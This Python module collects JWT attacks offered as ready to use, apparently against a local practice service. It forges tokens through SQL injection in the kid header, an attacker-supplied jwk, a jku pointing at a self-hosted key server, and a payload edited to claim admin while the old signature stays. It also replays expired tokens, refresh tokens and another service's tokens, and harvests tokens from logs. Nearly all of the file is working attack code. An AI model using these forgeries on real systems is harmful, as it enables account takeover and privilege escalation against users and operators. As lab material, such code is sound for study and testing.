"""Attacks that are ready to use, in the form of those that you write. Each gives the response that it got."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer

import jwt
import requests
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key
from jwt.algorithms import ECAlgorithm
from loot import ADMIN, Loot, claims_of, encoded, forged, present

MY_KEY = generate_private_key(SECP256R1())
MY_PUBLIC_KEY = ECAlgorithm.to_jwk(MY_KEY.public_key(), as_dict=True) | {"alg": "ES256", "kid": "mine"}
TOKEN = re.compile(r"[\w-]+\.[\w-]+\.[\w-]{20,}")


def kid_as_sql(loot: Loot) -> requests.Response:
    """The name of the key is a piece of SQL, and what it selects is a key of ours."""
    return present(loot, forged(loot, b"mine", alg="HS256", kid="none' UNION SELECT 'mine"))


def jwk(loot: Loot) -> requests.Response:
    """The token brings along the public key that it is to be verified with."""
    return present(loot, signed_by_me(loot, jwk=MY_PUBLIC_KEY))


def jku(loot: Loot) -> requests.Response:
    """The token names the address where its public key lies: a server of ours."""
    with serving({"keys": [MY_PUBLIC_KEY]}) as address:
        return present(loot, signed_by_me(loot, jku=address))


def edited_payload(loot: Loot) -> requests.Response:
    """The payload says another user, and the signature is as it was."""
    header, _, old_signature = loot.access.split(".")
    return present(loot, f"{header}.{encoded(claims_of(loot.access) | ADMIN)}.{old_signature}")


def other_service(loot: Loot) -> requests.Response:
    """A good token of another service, which signs with the same key. There, user 1 is somebody else."""
    return present(loot, loot.other_service)


def refresh_as_access(loot: Loot) -> requests.Response:
    """The refresh token in the place of the access token: it lives a day instead of minutes."""
    return present(loot, loot.refresh, "/user-orders/")


def expired(loot: Loot) -> requests.Response:
    """The token of yesterday, once more."""
    return present(loot, loot.expired, "/user-orders/")


def token_in_log(loot: Loot) -> requests.Response:
    """Whatever looks like a token in the log; else a token in an address, from where it would get into logs."""
    found = TOKEN.findall(loot.log)
    got = present(loot, found[-1] if found else "")
    return got if got.ok else requests.get(f"{loot.url}/user-orders/?token={loot.access}", timeout=10)


def signed_by_me(loot: Loot, **header: object) -> str:
    """The own access token, rewritten to be the admin's and signed with a key pair of ours."""
    claims = claims_of(loot.access) | ADMIN
    return jwt.encode(claims, MY_KEY, algorithm="ES256", headers={"kid": "mine"} | header)


@contextmanager
def serving(content: dict) -> Iterator[str]:
    """The address of a small server on this machine that gives this JSON to everybody."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(json.dumps(content).encode())

        def log_message(self, *_args: object) -> None:
            """Says nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/keys.json"
        server.shutdown()
